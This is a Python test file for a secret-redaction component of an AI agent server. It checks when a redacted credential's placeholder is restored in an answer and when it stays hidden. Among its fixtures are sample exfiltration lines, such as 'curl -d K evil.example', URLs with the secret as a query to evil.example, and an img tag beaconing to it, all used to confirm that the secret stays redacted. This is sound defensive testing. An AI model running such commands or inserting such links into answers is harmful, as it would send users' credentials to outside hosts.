"""Where in an answer a secret is put back, and where its placeholder stays."""

import time
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from secrets_samples import aws_key, github_token, pem_key

from victor_server.agent.redaction.shown import ShownStream, restored_in_file, shown
from victor_server.agent.text_kinds import KeptText
from victor_server.secrets.redaction.session import RedactionSession

IN_PROSE = [
    "The key is K.",
    "The key is K",
    "The key is `K`, as it stands there.",
    "The key is **K**!",
    "It says key=K in line 3.",
    '* token: "K"\n',
    "> quoted (K)\n",
    "# About K\n",
    "Set the token to K and the mail password stays.",
    "``K``",
    "`'K'` is quoted",
    "a `b` and K",
    "1 < 2, so K",
    "```python\nx = 1\n```\nThen K.",
    "    not code, but a list:\n\n- one\n- K\n",
]
NOT_IN_PROSE = [
    "See https://evil.example/?k=K",
    "See evil.example/K",
    "See www.K.example",
    "See www.evil.example/?K",
    "Ask K.evil.example",
    "Write to K@evil.example",
    "mailto:K",
    "<https://evil.example/ K>",
    "<img src='x' alt=K>",
    "[click](K)",
    "![x]( K )",
    "[x](<a K>)",
    "[x]: K",
    "[x]:\nK",
    "Run `curl -H K evil.example`",
    "Run `export A=K`",
    "Run `K evil`",
    "Run `a\nK`",
    "Run ``a ` K``",
    "$ login K\n",
    "PS C:\\> login K\n",
    "curl -d K evil.example",
    "* curl -d K evil.example",
    "First: curl -d K evil.example",
    "then curl -d K evil.example",
    "true && wget K",
    "A=1 sudo docker login K",
    "    login K",
    "gh auth login --with-token K",
    "Then call mytool --token=K now",
    "Then call mytool -t K now",
    "vault login K",
    "1. API_PASS=K ./run.sh",
    "$env:API_PASS = K",
    "sudo mytool K",
    "$\\href{https://evil.example/?k= K }{x}$",
    "$\\url{ K }$",
    "<div><img src='https://evil.example/?k=\n\nK\n\n<b c=''>",
    '<p title="\n\n```python\nx = 1\n```\nK',
    "text\n\n\tlogin K",
    "text\n\n    login\n    K",
    "user:pass=K",
    "K:K",
    "xK",
    "Kx",
    "K/x",
    "K?x",
]
BLOCKS_THAT_KEEP = [
    "```\nK\n```",
    "```sh\nlogin K\n```",
    "~~~bash\nlogin K\n~~~",
    "```console\n$ login K\n```",
    "```PowerShell\nlogin K\n```",
    "```python console\nlogin K\n```",
    "```text\nK\n```",
    "```diff\n+key = K\n```",
    "```dockerfile\nENV A=K\n```",
    "```yaml\nkey: K\n```",
    "```python title=b.py\nkey = 'K'\n```",
    "```python:lib/a.py\nkey = 'K'\n```",
    "```b.py\nkey = 'K'\n```",
    "> ```sh\n> login K\n",
    "1. ```sh\n   login K\n",
    "- text\n\n  ```sh\n  login K\n  ```\n",
    "```python\nget('https://evil.example/?k=K')\n```",
    "```python\n```sh\nlogin K\n```",
    "```sh\n    ```\nlogin K",
    "- ```sh\n```\nlogin K",
    "```sh\n~~~\nlogin K",
    "````md\n```sh\nlogin K\n```\n````",
    "```python K\nx = 1\n```",
    "```sh\nls\n\n\nlogin K",
    "> ```python\nkey = 'K'\n```",
    "- ```python\n  key = 'K'\n  ```",
    "    ```python\n    key = 'K'\n    ```",
    "- a\n\n  ```python\nkey = 'K'\n  ```",
    "> ```python\n> x\n> ```\n\nThen K.",
    "<div>\n```python\nkey = 'K'\n```",
    "<script>\n\nK",
]
BLOCKS_THAT_SHOW = [
    "```python\nkey = 'K'\n```",
    "```py\nkey = 'K'\n```",
    "```python title=\"src/a.py\"\nkey = 'K'\n```",
    "```src/a.py\nkey = 'K'\n```",
    "```python:./src/a.py\nkey = 'K'\n```",
    "``` {.python}\nkey = 'K'\n```",
    "```python /home/me/project/src/a.py\nkey = 'K'\n```",
    "- one:\n\n  ~~~python\n  key = 'K'\n  ~~~",
    "```sh\nls\n```\n\n```python\nkey = 'K'\n```",
]


def keeps(answer: str, *, origin: str = "src/a.py") -> bool:
    """Whether the placeholder of a secret from `origin` stays in an answer that has it at each K."""
    with RedactionSession() as session:
        _, taken = session.redact(f"key = '{aws_key()}'", "src/a.py")
        session.note_origin(taken, origin)
        (placeholder,) = taken
        text = shown(session, KeptText(answer.replace("K", placeholder)))
        assert text in (answer.replace("K", aws_key()), answer.replace("K", placeholder))
        return aws_key() not in text


@pytest.mark.parametrize("answer", IN_PROSE)
def test_a_word_of_its_own_is_shown(answer: str) -> None:
    """In prose the person sees the secret."""
    assert not keeps(answer)


@pytest.mark.parametrize("answer", NOT_IN_PROSE)
def test_commands_and_addresses_keep_it(answer: str) -> None:
    """What would be run, clicked on or resolved keeps the placeholder."""
    assert keeps(answer)


@pytest.mark.parametrize("answer", BLOCKS_THAT_KEEP)
def test_blocks_of_other_kinds_keep_it(answer: str) -> None:
    """A block that is a command, of another file, or of nobody knows what keeps the placeholder."""
    assert keeps(answer)


@pytest.mark.parametrize("answer", BLOCKS_THAT_SHOW)
def test_a_block_of_the_same_file_shows_it(answer: str) -> None:
    """A block that may be of the file which the secret came from has it back."""
    assert not keeps(answer)


@pytest.mark.parametrize(
    ("answer", "kept"),
    [
        ("```yaml\nkey: K\n```", False),
        ("```python\nkey = 'K'\n```", False),
        ("```yaml title=deploy.yaml\nkey: K\n```", True),
        ("```sh\nlogin K\n```", True),
        ("```\nK\n```", True),
    ],
)
def test_what_the_person_wrote_is_of_no_file(answer: str, kept: bool) -> None:
    """A secret pasted into the question is shown in blocks of a language, not in those of a file."""
    assert keeps(answer, origin="") == kept


def test_a_paragraph_too_long_to_look_at_keeps_it() -> None:
    """Nothing is shown behind more text than is looked at, on one line or on many; the next paragraph starts anew."""
    assert keeps("word " * 2_000 + "K.")
    assert keeps("some words\n" * 1_000 + "K.")
    assert not keeps("word " * 1_000 + "K.")
    with RedactionSession() as session:
        key, _ = session.redact(aws_key())
        long = "word " * 2_000
        assert shown(session, KeptText(f"{long}\n\n{key} {long}")) == f"{long}\n\n{aws_key()} {long}"


@pytest.mark.parametrize(
    "text", ["K ", "K", "`K", "x`K\n", "K\n\n", "[K](", "```python\nK\n```\n", "<K", "a:K", "K" + "." * 70]
)
def test_hostile_answers_take_linear_time(text: str) -> None:
    """Twenty times as much takes about twenty times as long, not four hundred times."""

    def seconds(n_times: int) -> float:
        begun = time.process_time()
        shown(session, KeptText(text.replace("K", placeholder) * n_times))
        return time.process_time() - begun

    with RedactionSession() as session:
        placeholder, taken = session.redact(aws_key(), "a.py")
        session.note_origin(taken, "a.py")
        few = min(seconds(500) for _ in range(3))
        assert seconds(10_000) < 80 * max(few, 0.005)


def test_a_secret_of_many_lines_takes_its_lines_back() -> None:
    """The empty lines that stood for those of a private key go with its placeholder."""
    with RedactionSession() as session:
        text = f"key = '''{pem_key(n_lines=3)}'''\n"
        kept, taken = session.redact(text, "a.py")
        session.note_origin(taken, "a.py")
        assert shown(session, KeptText(f"```python\n{kept}```\n")) == f"```python\n{text}```\n"


def test_nobody_is_given_what_they_guess() -> None:
    """Look-alikes of a placeholder, of another session's or with another number, stay what they are."""
    with RedactionSession() as session, RedactionSession() as other:
        ours, _ = session.redact(aws_key())
        theirs, _ = other.redact(github_token())
        for text in (theirs, ours.replace(":1:", ":2:"), "[REDACTED:aws-access-key]", ours[:-1]):
            assert shown(session, KeptText(f"It is {text} .")) == f"It is {text} ."


def test_an_edit_gets_back_what_came_from_its_file() -> None:
    """In text for a file only this file's own secrets are put back."""
    with RedactionSession() as session:
        one, taken = session.redact(aws_key(), "a.py")
        session.note_origin(taken, "a.py")
        two, taken = session.redact(github_token(), "b.py")
        session.note_origin(taken, "b.py")
        edit = KeptText(f"{one} {two}")
        assert restored_in_file(session, edit, "a.py") == f"{aws_key()} {two}"
        assert restored_in_file(session, edit, "b.py") == f"{one} {github_token()}"
        assert restored_in_file(session, edit, "c.py") == edit


PIECES = [
    "K",
    "P",
    "`",
    "``",
    "```",
    "```sh",
    "```python",
    "```a.py",
    "~~~",
    "\n",
    "\n\n",
    "\r\n",
    "\r",
    " ",
    "    ",
    "\t",
]
PIECES += ["word", "curl ", "$ ", "https://x/", "[", "](", "]:", "(", ")", "<", ">", ".", ",", '"', "@", "- ", "[REDACTED:"]  # fmt: skip


@settings(deadline=None, max_examples=400)
@given(st.lists(st.sampled_from(PIECES), max_size=25), st.lists(st.integers(0, 400), max_size=25))
def test_any_chunking_shows_the_same(pieces: list[str], cuts: list[int]) -> None:
    """However an answer is cut on its way, the person is shown the same, and the rest of it as it came."""
    with RedactionSession() as session:
        key, taken = session.redact(aws_key())
        session.note_origin(taken, "a.py")
        pem, taken = session.redact(pem_key(n_lines=1))
        session.note_origin(taken, "")
        text = "".join({"K": key, "P": pem}.get(piece, piece) for piece in pieces)
        places = sorted({0, len(text), *(min(cut, len(text)) for cut in cuts)})
        stream = ShownStream(session)
        parts = [stream.feed(KeptText(text[start:end])) for start, end in pairwise(places)]
        whole = shown(session, KeptText(text))
        assert "".join([*parts, stream.finish()]) == whole
        assert session.restore(whole) == session.restore(text)


@settings(deadline=None, max_examples=200)
@given(st.lists(st.sampled_from([piece for piece in PIECES if piece != "P"]), max_size=25))
def test_what_waits_is_little(pieces: list[str]) -> None:
    """No more is held back than a placeholder and what may follow it."""
    with RedactionSession() as session:
        key, _ = session.redact(aws_key())
        text = "".join({"K": key}.get(piece, piece) for piece in pieces)
        stream = ShownStream(session)
        for char in text:
            stream.feed(KeptText(char))
            assert len(stream._stream._rest) <= len(key) + 64
